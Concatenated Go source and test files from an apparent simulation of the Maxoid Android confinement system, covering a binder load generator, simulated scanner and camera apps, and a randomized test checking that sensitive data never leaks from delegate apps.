func TestFleetMetricsWired(t *testing.T) {
	reg := metrics.NewRegistry()
	eng := NewEngine(16)
	if _, err := eng.Run(Options{Instances: 16, Ops: 160, Batch: 8, Registry: reg}); err != nil {
		t.Fatal(err)
	}
	if got := reg.Counter("binder.batch.items").Total(); got != 160 {
		t.Fatalf("binder.batch.items = %d, want 160", got)
	}
	if reg.Histogram("binder.batch").Snapshot().Count != 20 {
		t.Fatalf("binder.batch count = %d, want 20", reg.Histogram("binder.batch").Snapshot().Count)
	}
}
