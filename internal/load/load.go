// Package load is the fleet-scale load generator: it simulates
// thousands of app instances hammering one system service through the
// binder, in batched or unbatched mode, optionally behind AMS
// admission control, and reports throughput and dispatch-latency
// quantiles through internal/metrics.
//
// An "instance" here is a caller identity (a distinct app package and
// UID), not a forked process: the engine measures the transaction
// path — endpoint lookup, policy check, admission, watchdog, dispatch
// — not zygote forking, so a fleet of 10k+ instances fits in one test
// process. Worker goroutines multiplex the fleet the way a real
// device's thread pool multiplexes binder threads.
package load

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/kernel"
	"maxoid/internal/metrics"
	"maxoid/internal/vfs"
	"maxoid/internal/zygote"
)

// ServiceName is the system endpoint the generated fleet calls.
const ServiceName = "fleet.wordstore"

// Options shapes one load run.
type Options struct {
	// Instances is the simulated fleet size: distinct caller
	// identities cycling through the workers.
	Instances int
	// Workers is the number of driver goroutines (binder threads).
	Workers int
	// Ops is the total number of transactions (parcels) to issue.
	Ops int
	// Batch is the number of parcels carried per dispatch. 1 issues
	// singleton Calls; larger values use TransactBatch.
	Batch int
	// PayloadBytes is the payload carried (and checksummed by the
	// service) per parcel.
	PayloadBytes int
	// CallTimeout arms the router's ANR watchdog. The default
	// (2s) never fires for this service but charges the realistic
	// per-dispatch watchdog cost that batching amortizes.
	CallTimeout time.Duration
	// Admission, when non-nil, installs AMS admission control in
	// front of the service.
	Admission *ams.AdmissionConfig
	// Retry, when non-nil, issues unbatched transactions through
	// CallIdempotent with this policy, so overload rejections back
	// off and re-attempt instead of counting as rejected.
	Retry *binder.RetryPolicy
	// Registry receives the run's latency histograms and counters;
	// nil uses a private registry.
	Registry *metrics.Registry
}

func (o *Options) setDefaults() {
	if o.Instances <= 0 {
		o.Instances = 1
	}
	if o.Workers <= 0 {
		o.Workers = 8
	}
	if o.Ops <= 0 {
		o.Ops = o.Instances
	}
	if o.Batch <= 0 {
		o.Batch = 1
	}
	if o.PayloadBytes < 0 {
		o.PayloadBytes = 0
	}
	if o.CallTimeout == 0 {
		o.CallTimeout = 2 * time.Second
	}
	if o.Registry == nil {
		o.Registry = metrics.NewRegistry()
	}
}

// Result is the outcome of one load run.
type Result struct {
	Instances int
	Workers   int
	Batch     int

	Issued    int64 // transactions attempted
	Completed int64 // transactions the service acknowledged
	Rejected  int64 // typed overload rejections (terminal, post-retry)
	Untyped   int64 // failures NOT wrapping ErrOverloaded (must be 0)

	Elapsed    time.Duration
	Throughput float64 // completed transactions per second

	// Dispatch is the per-dispatch latency distribution: "binder.call"
	// when Batch == 1, "binder.batch" otherwise.
	Dispatch metrics.Snapshot

	// InFlightEnd is the admission controller's in-flight count after
	// the run drained — nonzero means a leaked admission slot.
	InFlightEnd int64
	// ServiceOps is the number of parcels the service processed; with
	// no injected faults it must equal Completed.
	ServiceOps int64
}

// Engine is a reusable fleet fixture: one router, one service, one
// fleet of caller identities. Runs with different options (batch
// sizes, admission configs) share the fixture, so batched/unbatched
// comparisons measure the dispatch path, not fixture setup.
type Engine struct {
	Router    *binder.Router
	Kernel    *kernel.Kernel
	Manager   *ams.Manager
	Admission *ams.Admission

	svc     *wordstore
	callers []binder.Caller
}

// wordstore is the target service: it checksums each parcel's payload
// and keeps a global op count. It implements BatchHandler so a batched
// dispatch pays the handler's entry cost once.
type wordstore struct {
	ops atomic.Int64
	sum atomic.Int64
}

func (s *wordstore) handle(data binder.Parcel) (binder.Parcel, error) {
	payload := data.Bytes("payload")
	var sum int64
	for _, b := range payload {
		sum += int64(b)
	}
	s.sum.Add(sum)
	n := s.ops.Add(1)
	return binder.Parcel{"n": n}, nil
}

func (s *wordstore) OnTransact(from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
	return s.handle(data)
}

func (s *wordstore) OnTransactBatch(from binder.Caller, items []binder.BatchItem) binder.BatchResult {
	res := binder.BatchResult{
		Replies: make([]binder.Parcel, len(items)),
		Errs:    make([]error, len(items)),
	}
	for i, it := range items {
		res.Replies[i], res.Errs[i] = s.handle(it.Data)
	}
	return res
}

// NewEngine builds the fixture for a fleet of n instances.
func NewEngine(n int) *Engine {
	if n <= 0 {
		n = 1
	}
	kern := kernel.New(nil)
	router := binder.NewRouter()
	mgr := ams.New(kern, zygote.New(vfs.New(), kern), router)
	svc := &wordstore{}
	router.RegisterSystem(ServiceName, svc)

	callers := make([]binder.Caller, n)
	for i := range callers {
		app := fmt.Sprintf("fleet.app%d", i)
		callers[i] = binder.Caller{
			UID:  10000 + i,
			Task: kernel.Task{App: app},
		}
	}
	return &Engine{Router: router, Kernel: kern, Manager: mgr, svc: svc, callers: callers}
}

// Run drives opts.Ops transactions from the fleet through the service
// and reports the outcome. Instances beyond the engine's fleet size
// wrap around.
func (e *Engine) Run(opts Options) (*Result, error) {
	opts.setDefaults()
	if opts.Instances > len(e.callers) {
		return nil, fmt.Errorf("load: engine has %d instances, run wants %d", len(e.callers), opts.Instances)
	}
	e.Router.SetMetrics(opts.Registry)
	e.Router.SetCallTimeout(opts.CallTimeout)
	if opts.Admission != nil {
		e.Admission = e.Manager.EnableAdmissionControl(*opts.Admission)
		e.Admission.SetMetrics(opts.Registry)
	} else {
		e.Router.SetAdmission(nil)
		e.Admission = nil
	}
	if opts.Retry != nil {
		e.Router.SetRetryPolicy(*opts.Retry)
	}

	payload := make([]byte, opts.PayloadBytes)
	for i := range payload {
		payload[i] = byte(i)
	}

	res := &Result{Instances: opts.Instances, Workers: opts.Workers, Batch: opts.Batch}
	var issued, completed, rejected, untyped atomic.Int64

	// Work is handed out as dispatch units: a unit is one parcel when
	// unbatched, one Batch-sized group for one caller when batched.
	unitParcels := opts.Batch
	units := opts.Ops / unitParcels
	if units == 0 {
		units = 1
	}
	var next atomic.Int64

	classify := func(n int64, err error) {
		if err == nil {
			return
		}
		if errors.Is(err, binder.ErrOverloaded) {
			rejected.Add(n)
		} else {
			untyped.Add(n)
		}
	}

	var wg sync.WaitGroup
	start := time.Now()
	for w := 0; w < opts.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			items := make([]binder.BatchItem, unitParcels)
			for {
				u := next.Add(1) - 1
				if u >= int64(units) {
					return
				}
				from := e.callers[int(u)%opts.Instances]
				issued.Add(int64(unitParcels))
				if unitParcels == 1 {
					data := binder.Parcel{"payload": payload, "seq": u}
					var err error
					if opts.Retry != nil {
						_, err = e.Router.CallIdempotent(from, ServiceName, "put", data)
					} else {
						_, err = e.Router.Call(from, ServiceName, "put", data)
					}
					if err == nil {
						completed.Add(1)
					} else {
						classify(1, err)
					}
					continue
				}
				for i := range items {
					items[i] = binder.BatchItem{
						Code: "put",
						Data: binder.Parcel{"payload": payload, "seq": u*int64(unitParcels) + int64(i)},
					}
				}
				br, err := e.Router.TransactBatch(from, ServiceName, items)
				if err != nil {
					classify(int64(unitParcels), err)
					continue
				}
				for i := range items {
					if br.Errs[i] == nil {
						completed.Add(1)
					} else {
						classify(1, br.Errs[i])
					}
				}
			}
		}()
	}
	wg.Wait()
	res.Elapsed = time.Since(start)

	res.Issued = issued.Load()
	res.Completed = completed.Load()
	res.Rejected = rejected.Load()
	res.Untyped = untyped.Load()
	res.ServiceOps = e.svc.ops.Load()
	if res.Elapsed > 0 {
		res.Throughput = float64(res.Completed) / res.Elapsed.Seconds()
	}
	histName := "binder.call"
	if opts.Batch > 1 {
		histName = "binder.batch"
	}
	res.Dispatch = opts.Registry.Histogram(histName).Snapshot()
	if e.Admission != nil {
		res.InFlightEnd = e.Admission.InFlight()
	}
	return res, nil
}

// Reset zeroes the service's counters between runs sharing an engine.
func (e *Engine) Reset() {
	e.svc.ops.Store(0)
	e.svc.sum.Store(0)
}
