package load

import (
	"testing"

	"maxoid/internal/ams"
	"maxoid/internal/testutil"
)

// TestGatewayFleetTyped runs a small fleet and requires the typed
// contract: everything served, nothing untyped, and the ledger adds up.
func TestGatewayFleetTyped(t *testing.T) {
	defer testutil.LeakCheck(t)()
	e, err := NewGatewayEngine(8)
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	res, err := e.Run(GatewayOptions{Ops: 400, Workers: 4, WritePermille: 250})
	if err != nil {
		t.Fatal(err)
	}
	if res.Issued != 400 || res.Served != 400 {
		t.Fatalf("issued=%d served=%d, want 400/400 (%s)", res.Issued, res.Served, res)
	}
	if res.Untyped != 0 {
		t.Fatalf("untyped responses: %d", res.Untyped)
	}
	if res.Latency.Count != 400 {
		t.Fatalf("latency samples: %d, want 400", res.Latency.Count)
	}
}

// TestGatewayFleetOverloadTyped floods through admission control: every
// response is 2xx or a typed 429, and in-flight drains to zero.
func TestGatewayFleetOverloadTyped(t *testing.T) {
	defer testutil.LeakCheck(t)()
	e, err := NewGatewayEngine(4)
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	res, err := e.Run(GatewayOptions{
		Ops: 300, Workers: 8, WritePermille: 1000,
		Admission: &ams.AdmissionConfig{PerAppRate: 5, PerAppBurst: 5},
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Rejected429 == 0 {
		t.Fatalf("no 429s under a 5/s cap: %s", res)
	}
	if res.Served+res.Rejected429+res.Degraded503 != res.Issued {
		t.Fatalf("ledger mismatch: %s", res)
	}
	if res.InFlightEnd != 0 {
		t.Fatalf("in-flight after drain: %d", res.InFlightEnd)
	}
}
