package apps

import (
	"fmt"
	"math/rand"
	"testing"

	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/provider"
	"maxoid/internal/trace"
	"maxoid/internal/vfs"
)

// TestMonkeyNoPublicLeaks is a randomized whole-system exerciser in the
// spirit of Android's monkey tool: it boots a device, marks two
// initiators' data as sensitive, and then drives hundreds of random
// actions — delegate launches, file edits through delegate views,
// provider operations, scans, broadcasts, Clear-Vol/Clear-Priv — while
// auditing after every burst that nothing derived from the sensitive
// data ever became publicly observable (the S1 invariant under load).
func TestMonkeyNoPublicLeaks(t *testing.T) {
	const bursts = 12
	const actionsPerBurst = 25

	for _, seed := range []int64{1, 7, 42} {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			r := rand.New(rand.NewSource(seed))
			s, suite := newDevice(t)

			initiators := []string{EmailPkg, DropboxPkg}
			delegateApps := []string{PDFViewerPkg, OfficeSuitePkg, QRScannerPkg, CamScannerPkg, CameraMXPkg, VPlayerPkg, EBookDroidPkg}

			// Seed sensitive state in both initiators.
			ectx, _ := s.Launch(EmailPkg, intent.Intent{})
			if err := suite.Email.Receive(ectx, "secret.pdf", []byte("SENSITIVE-EMAIL")); err != nil {
				t.Fatal(err)
			}
			suite.DropboxServer.Put("/files/secret.txt", []byte("SENSITIVE-DROPBOX"))
			dbctx, _ := s.Launch(DropboxPkg, intent.Intent{})
			if err := suite.Dropbox.Fetch(dbctx, "secret.txt"); err != nil {
				t.Fatal(err)
			}

			pkgs := s.AM.Installed()
			baseline, err := trace.Capture(s, pkgs, initiators)
			if err != nil {
				t.Fatal(err)
			}
			// Public state writes by initiators are legitimate; track a
			// running baseline that absorbs them but still catches any
			// write performed by a delegate context.
			for b := 0; b < bursts; b++ {
				for a := 0; a < actionsPerBurst; a++ {
					initiator := initiators[r.Intn(len(initiators))]
					app := delegateApps[r.Intn(len(delegateApps))]
					ctx, err := s.LaunchAsDelegate(app, initiator, intent.Intent{})
					if err != nil {
						t.Fatalf("burst %d action %d launch %s^%s: %v", b, a, app, initiator, err)
					}
					switch r.Intn(6) {
					case 0: // read the initiator's sensitive file
						target := "/data/data/" + EmailPkg + "/attachments/secret.pdf"
						if initiator == DropboxPkg {
							target = layout.ExtDir + "/Dropbox/secret.txt"
						}
						_, _ = vfs.ReadFile(ctx.FS(), ctx.Cred(), target)
					case 1: // write somewhere "public"
						name := fmt.Sprintf("%s/m%d.txt", layout.ExtDir, r.Intn(8))
						_ = vfs.WriteFile(ctx.FS(), ctx.Cred(), name, []byte("derived-SENSITIVE"), 0o666)
					case 2: // provider insert
						_, _ = ctx.Resolver().Insert("content://user_dictionary/words",
							provider.Values{"word": fmt.Sprintf("leak%d", r.Intn(100))})
					case 3: // provider update of a public row (COW)
						_, _ = ctx.Resolver().Update("content://user_dictionary/words",
							provider.Values{"frequency": int64(r.Intn(100))}, "")
					case 4: // delete a public file (whiteout)
						_ = ctx.FS().Remove(ctx.Cred(), fmt.Sprintf("%s/m%d.txt", layout.ExtDir, r.Intn(8)))
					case 5: // stop/restart churn
						s.AM.StopInstance(app, initiator)
					}
				}
				// Occasionally clear a domain mid-run.
				if r.Intn(3) == 0 {
					victim := initiators[r.Intn(len(initiators))]
					if err := s.ClearVol(victim); err != nil {
						t.Fatalf("burst %d clearvol: %v", b, err)
					}
					if r.Intn(2) == 0 {
						if err := s.ClearPriv(victim); err != nil {
							t.Fatalf("burst %d clearpriv: %v", b, err)
						}
					}
				}
				// Audit: no public trace appeared during this burst.
				now, err := trace.Capture(s, pkgs, initiators)
				if err != nil {
					t.Fatal(err)
				}
				d := trace.Diff(baseline, now)
				if d.LeakedPublicly() {
					t.Fatalf("burst %d leaked publicly:\n%s", b, d.Summary())
				}
				// The sensitive originals are intact (S2).
				att, err := vfs.ReadFile(ectx.FS(), ectx.Cred(), "/data/data/"+EmailPkg+"/attachments/secret.pdf")
				if err != nil || string(att) != "SENSITIVE-EMAIL" {
					t.Fatalf("burst %d: email attachment corrupted: %q, %v", b, att, err)
				}
				dbf, err := vfs.ReadFile(dbctx.FS(), dbctx.Cred(), layout.ExtDir+"/Dropbox/secret.txt")
				if err != nil || string(dbf) != "SENSITIVE-DROPBOX" {
					t.Fatalf("burst %d: dropbox file corrupted: %q, %v", b, dbf, err)
				}
				baseline = now
			}
		})
	}
}
