package apps

import (
	"fmt"
	"path"
	"strings"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/intent"
	"maxoid/internal/provider/media"
)

// QRScanner models Barcode Scanner (Table 1, scanner row): scanning a
// QR code decodes it, stores the result in a private recent-scans DB,
// and hands the decoded URL to the invoking app.
type QRScanner struct{}

// QRScannerPkg is the package name.
const QRScannerPkg = "com.google.zxing.client.android"

// ActionScan is the scan intent action.
const ActionScan = "com.google.zxing.client.android.SCAN"

// Package implements ams.App.
func (q *QRScanner) Package() string { return QRScannerPkg }

// Manifest returns the app's install manifest.
func (q *QRScanner) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: QRScannerPkg,
		Filters: []intent.Filter{{Actions: []string{ActionScan}}},
	}
}

// OnStart handles SCAN intents: the data names a captured frame file.
func (q *QRScanner) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Action != ActionScan || in.Data == "" {
		return nil
	}
	_, err := q.Scan(ctx, in.Data)
	return err
}

// Scan decodes a QR code from a captured frame and records the scan in
// the private recent-scans database (Table 1 trace).
func (q *QRScanner) Scan(ctx *ams.Context, frame string) (string, error) {
	data, err := readTarget(ctx, frame)
	if err != nil {
		return "", err
	}
	cpuWork(data, RenderRounds/4)
	// "Decode": the frame content is the URL in this simulation.
	url := strings.TrimSpace(string(data))
	if err := recents(ctx, ctx.DataDir(), "scans.db").Add(url); err != nil {
		return "", err
	}
	return url, nil
}

// RecentScans returns the private scan history.
func (q *QRScanner) RecentScans(ctx *ams.Context) []string {
	return recents(ctx, ctx.DataDir(), "scans.db").List()
}

// OnTransact lets the invoker retrieve the last scan over Binder.
func (q *QRScanner) OnTransact(ctx *ams.Context, from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
	if code == "last_scan" {
		scans := q.RecentScans(ctx)
		if len(scans) == 0 {
			return binder.Parcel{}, nil
		}
		return binder.Parcel{"url": scans[len(scans)-1]}, nil
	}
	return nil, fmt.Errorf("qrscanner: unknown code %s", code)
}

// CamScanner models CamScanner (Table 1): scanning a page saves an
// image file to the SD card, a thumbnail, a log file, and a private
// recent-scans DB entry.
type CamScanner struct{}

// CamScannerPkg is the package name.
const CamScannerPkg = "com.intsig.camscanner"

// ActionScanDoc is the document-scan action.
const ActionScanDoc = "com.intsig.camscanner.SCAN_DOC"

// Package implements ams.App.
func (c *CamScanner) Package() string { return CamScannerPkg }

// Manifest returns the app's install manifest.
func (c *CamScanner) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: CamScannerPkg,
		Filters: []intent.Filter{{Actions: []string{ActionScanDoc}}},
	}
}

// OnStart handles scan intents.
func (c *CamScanner) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Action != ActionScanDoc || in.Data == "" {
		return nil
	}
	return c.ScanPage(ctx, in.Data)
}

// ScanPage processes a scanned page (Table 5's CamScanner task),
// leaving every Table 1 trace.
func (c *CamScanner) ScanPage(ctx *ams.Context, source string) error {
	data, err := readTarget(ctx, source)
	if err != nil {
		return err
	}
	// Page processing dominates latency (7.3s on the paper's tablet).
	cpuWork(data, RenderRounds*4)
	name := path.Base(source)
	if err := writeSD(ctx, "CamScanner/"+name+".jpg", data); err != nil {
		return err
	}
	if err := writeSD(ctx, "CamScanner/.thumbs/"+name+".thumb", data[:min(len(data), 256)]); err != nil {
		return err
	}
	if err := writeSD(ctx, "CamScanner/scan.log", []byte("scanned "+name+"\n")); err != nil {
		return err
	}
	return recents(ctx, ctx.DataDir(), "scans.db").Add(name)
}

// CameraMX models CameraMX (Table 1, photo row): taking a photo saves
// the file to the SD card and creates a Media provider entry; editing a
// photo creates a new Media entry.
type CameraMX struct{}

// CameraMXPkg is the package name.
const CameraMXPkg = "com.magix.camera_mx"

// ActionCapture is the image-capture action.
const ActionCapture = "android.media.action.IMAGE_CAPTURE"

// Package implements ams.App.
func (c *CameraMX) Package() string { return CameraMXPkg }

// Manifest returns the app's install manifest.
func (c *CameraMX) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: CameraMXPkg,
		Filters: []intent.Filter{{Actions: []string{ActionCapture}}},
	}
}

// OnStart handles capture intents; the "sensor" extra carries the shot
// content in this simulation.
func (c *CameraMX) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Action != ActionCapture {
		return nil
	}
	name := in.Extra("name")
	if name == "" {
		name = "IMG_0001"
	}
	_, err := c.TakePhoto(ctx, name, []byte(in.Extra("sensor")))
	return err
}

// TakePhoto captures a photo: CPU processing, SD-card file, Media
// provider entry (Table 5's "take a photo" task). It returns the photo
// path.
func (c *CameraMX) TakePhoto(ctx *ams.Context, name string, sensor []byte) (string, error) {
	cpuWork(sensor, RenderRounds)
	rel := "DCIM/CameraMX/" + name + ".jpg"
	if err := writeSD(ctx, rel, sensor); err != nil {
		return "", err
	}
	full := ctx.ExtDir() + "/" + rel
	_, err := ctx.CallProvider(media.Authority, "scan", binder.Parcel{"path": full, "date": int64(1)})
	if err != nil {
		return "", err
	}
	return full, nil
}

// EditPhoto edits an existing photo and saves the result as a new file
// with a new Media entry (Table 5's "save an edited photo" task).
func (c *CameraMX) EditPhoto(ctx *ams.Context, source string) (string, error) {
	data, err := readTarget(ctx, source)
	if err != nil {
		return "", err
	}
	cpuWork(data, RenderRounds*2)
	edited := strings.TrimSuffix(source, path.Ext(source)) + "_edit.jpg"
	rel := strings.TrimPrefix(edited, ctx.ExtDir()+"/")
	if err := writeSD(ctx, rel, append(data, []byte("-edited")...)); err != nil {
		return "", err
	}
	if _, err := ctx.CallProvider(media.Authority, "scan", binder.Parcel{"path": edited, "date": int64(2)}); err != nil {
		return "", err
	}
	return edited, nil
}
