package apps

import (
	"strings"
	"testing"

	"maxoid/internal/binder"

	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/layout"
	"maxoid/internal/vfs"
)

// Unit tests for individual app behaviors (the use-case integration
// tests live in usecases_test.go).

func TestPDFViewerTraces(t *testing.T) {
	s, suite := newDevice(t)
	ctx, _ := s.Launch(PDFViewerPkg, intent.Intent{})
	doc := layout.ExtDir + "/a.pdf"
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), doc, []byte("pdf-bytes"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := suite.PDFViewer.Open(ctx, doc, false); err != nil {
		t.Fatal(err)
	}
	// Recent list recorded; no SD copy without a content URI.
	if got := suite.PDFViewer.RecentFiles(ctx); len(got) != 1 || got[0] != doc {
		t.Errorf("recents = %v", got)
	}
	if vfs.Exists(ctx.FS(), ctx.Cred(), layout.ExtDir+"/AdobeReader/a.pdf") {
		t.Error("SD copy created without content URI")
	}
	// With a content URI, the copy appears (Table 1).
	if err := suite.PDFViewer.Open(ctx, doc, true); err != nil {
		t.Fatal(err)
	}
	if !vfs.Exists(ctx.FS(), ctx.Cred(), layout.ExtDir+"/AdobeReader/a.pdf") {
		t.Error("SD copy missing for content URI open")
	}
	// Search counts occurrences.
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), doc, []byte("x needle y needle"), 0o666); err != nil {
		t.Fatal(err)
	}
	n, err := suite.PDFViewer.Search(ctx, doc, "needle")
	if err != nil || n != 2 {
		t.Errorf("Search = %d, %v", n, err)
	}
	if suite.PDFViewer.LastDigest == 0 {
		t.Error("render digest not recorded")
	}
}

func TestPDFViewerOnStartDispatch(t *testing.T) {
	s, suite := newDevice(t)
	ctx, _ := s.Launch(PDFViewerPkg, intent.Intent{})
	// Non-VIEW intents are ignored.
	if err := suite.PDFViewer.OnStart(ctx, intent.Intent{Action: intent.ActionSend, Data: "/x"}); err != nil {
		t.Errorf("SEND intent: %v", err)
	}
	// Missing files error.
	if err := suite.PDFViewer.OnStart(ctx, intent.Intent{Action: intent.ActionView, Data: "/nope.pdf"}); err == nil {
		t.Error("missing file should error")
	}
}

func TestOfficeSuiteEdit(t *testing.T) {
	s, suite := newDevice(t)
	ctx, _ := s.Launch(OfficeSuitePkg, intent.Intent{})
	doc := layout.ExtDir + "/memo.txt"
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), doc, []byte("v1"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := suite.OfficeSuite.Edit(ctx, doc, "-v2"); err != nil {
		t.Fatal(err)
	}
	got, _ := vfs.ReadFile(ctx.FS(), ctx.Cred(), doc)
	if string(got) != "v1-v2" {
		t.Errorf("edited = %q", got)
	}
	// Table 1 traces: thumbnail + SD database + private ADF recents.
	if !vfs.Exists(ctx.FS(), ctx.Cred(), layout.ExtDir+"/.Kingsoft/thumbs/memo.txt.png") {
		t.Error("thumbnail missing")
	}
	if !vfs.Exists(ctx.FS(), ctx.Cred(), layout.ExtDir+"/.Kingsoft/office.db") {
		t.Error("SD database missing")
	}
	if !vfs.Exists(ctx.FS(), ctx.Cred(), ctx.DataDir()+"/recent.adf") {
		t.Error("ADF recents missing")
	}
}

func TestQRScannerDecodeAndHistory(t *testing.T) {
	s, suite := newDevice(t)
	ctx, _ := s.Launch(QRScannerPkg, intent.Intent{})
	frame := layout.ExtDir + "/frame.raw"
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), frame, []byte("  https://example.com/q \n"), 0o666); err != nil {
		t.Fatal(err)
	}
	url, err := suite.QRScanner.Scan(ctx, frame)
	if err != nil || url != "https://example.com/q" {
		t.Fatalf("Scan = %q, %v", url, err)
	}
	if got := suite.QRScanner.RecentScans(ctx); len(got) != 1 {
		t.Errorf("history = %v", got)
	}
	// Invoker retrieves the last scan over Binder.
	from := binder.Caller{Task: kernel.Task{App: "browser"}}
	reply, err := suite.QRScanner.OnTransact(ctx, from, "last_scan", nil)
	if err != nil || reply.String("url") != "https://example.com/q" {
		t.Errorf("OnTransact = %v, %v", reply, err)
	}
	if _, err := suite.QRScanner.OnTransact(ctx, from, "bogus", nil); err == nil {
		t.Error("unknown code should fail")
	}
}

func TestCameraEditPhotoCreatesSecondMediaEntry(t *testing.T) {
	s, suite := newDevice(t)
	ctx, _ := s.Launch(CameraMXPkg, intent.Intent{})
	photo, err := suite.CameraMX.TakePhoto(ctx, "p1", []byte("sensor"))
	if err != nil {
		t.Fatal(err)
	}
	edited, err := suite.CameraMX.EditPhoto(ctx, photo)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(edited, "_edit.jpg") {
		t.Errorf("edited name = %s", edited)
	}
	rows, err := ctx.Resolver().Query("content://media/images", nil, "", "")
	if err != nil || len(rows.Data) != 2 {
		t.Errorf("media entries = %d, %v", len(rows.Data), err)
	}
}

func TestVPlayerTraces(t *testing.T) {
	s, suite := newDevice(t)
	ctx, _ := s.Launch(VPlayerPkg, intent.Intent{})
	clip := layout.ExtDir + "/m.mp4"
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), clip, []byte("frames"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := suite.VPlayer.OnStart(ctx, intent.Intent{Action: intent.ActionView, Data: clip}); err != nil {
		t.Fatal(err)
	}
	if !vfs.Exists(ctx.FS(), ctx.Cred(), ctx.DataDir()+"/playback_history.db") {
		t.Error("playback history missing")
	}
	if !vfs.Exists(ctx.FS(), ctx.Cred(), layout.ExtDir+"/.vplayer/thumbs/m.mp4.jpg") {
		t.Error("thumbnail missing")
	}
}

func TestBrowserPublicDownload(t *testing.T) {
	s, suite := newDevice(t)
	suite.WebServer.Put("/pub/file.bin", []byte("bytes"))
	bctx, _ := s.Launch(BrowserPkg, intent.Intent{})
	_, clientPath, err := suite.Browser.Download(bctx, "web.example/pub/file.bin", false)
	if err != nil {
		t.Fatal(err)
	}
	// Public download: other apps see the file.
	octx, _ := s.Launch(EmailPkg, intent.Intent{})
	if data, err := vfs.ReadFile(octx.FS(), octx.Cred(), clientPath); err != nil || string(data) != "bytes" {
		t.Errorf("public file = %q, %v", data, err)
	}
	// Failed download returns an error.
	if _, _, err := suite.Browser.Download(bctx, "nohost.example/x", false); err == nil {
		t.Error("download from unknown host should fail")
	}
}

func TestDropboxFetchRequiresNetwork(t *testing.T) {
	s, suite := newDevice(t)
	// A delegate instance of Dropbox would have no network; Dropbox run
	// via the launcher as a delegate of wrapper demonstrates the cut.
	wctx, _ := s.Launch(WrapperPkg, intent.Intent{})
	_ = wctx
	dctx, err := s.LaunchAsDelegate(DropboxPkg, WrapperPkg, intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	if err := suite.Dropbox.Fetch(dctx, "f"); !IsNetworkFailure(err) {
		t.Errorf("confined fetch: %v, want ENETUNREACH", err)
	}
}

func TestSuiteManifests(t *testing.T) {
	s, suite := newDevice(t)
	_ = suite
	installed := s.AM.Installed()
	if len(installed) != 12 {
		t.Errorf("installed %d apps: %v", len(installed), installed)
	}
	// The resolver picks the PDF viewer for .pdf VIEW intents (it sorts
	// lexicographically among matches; adobe sorts before ebookdroid).
	ectx, _ := s.Launch(EmailPkg, intent.Intent{})
	if err := suite.Email.Receive(ectx, "f.pdf", []byte("x")); err != nil {
		t.Fatal(err)
	}
	vctx, err := suite.Email.ViewAttachment(ectx, "f.pdf", nil)
	if err != nil {
		t.Fatal(err)
	}
	if vctx.Package() != PDFViewerPkg {
		t.Errorf("resolved %s", vctx.Package())
	}
}
