// Package apps implements simulated versions of the applications the
// paper studies (§2.2, Table 1) and secures (§7.1): data processing
// apps (document viewers, scanners, camera, media player) and apps that
// need their help (Dropbox, Email, Browser, a wrapper app), plus the
// pPriv-aware EBookDroid port.
//
// Each app is an ams.App whose behavior matches the paper's Table 1
// observations: after processing data they leave traces — recent-file
// lists in private state, copies/thumbnails/logs on the SD card,
// entries in the Media provider — which is exactly what Maxoid's
// confinement must capture. App-internal computation (PDF rendering,
// image processing) is replaced by calibrated CPU work with the same
// input-size dependence, preserving the Table 5 latency structure.
package apps

import (
	"fmt"
	"hash/fnv"
	"path"
	"sort"
	"strings"

	"maxoid/internal/ams"
	"maxoid/internal/layout"
	"maxoid/internal/vfs"
)

// ExtraResult is the intent extra apps use to report results upward.
const ExtraResult = "result"

// cpuWork performs deterministic CPU work over data, standing in for
// rendering/decoding. rounds scales the work; the returned digest
// prevents the compiler from eliding the loop.
func cpuWork(data []byte, rounds int) uint64 {
	var digest uint64
	for i := 0; i < rounds; i++ {
		h := fnv.New64a()
		h.Write(data)
		var tag [1]byte
		tag[0] = byte(i)
		h.Write(tag[:])
		digest ^= h.Sum64()
	}
	return digest
}

// sharedPrefs is the shared-preferences key-value store apps keep in
// their private state ("XML" in Table 1). It is backed by a file under
// /data/data/<pkg>/shared_prefs/.
type sharedPrefs struct {
	ctx  *ams.Context
	name string
}

func prefs(ctx *ams.Context, name string) *sharedPrefs {
	return &sharedPrefs{ctx: ctx, name: name}
}

func (p *sharedPrefs) path() string {
	return path.Join(p.ctx.DataDir(), "shared_prefs", p.name+".xml")
}

// load parses the key=value lines (a stand-in for the XML encoding).
func (p *sharedPrefs) load() map[string]string {
	out := make(map[string]string)
	data, err := vfs.ReadFile(p.ctx.FS(), p.ctx.Cred(), p.path())
	if err != nil {
		return out
	}
	for _, line := range strings.Split(string(data), "\n") {
		if k, v, ok := strings.Cut(line, "="); ok {
			out[k] = v
		}
	}
	return out
}

func (p *sharedPrefs) store(kv map[string]string) error {
	keys := make([]string, 0, len(kv))
	for k := range kv {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&b, "%s=%s\n", k, kv[k])
	}
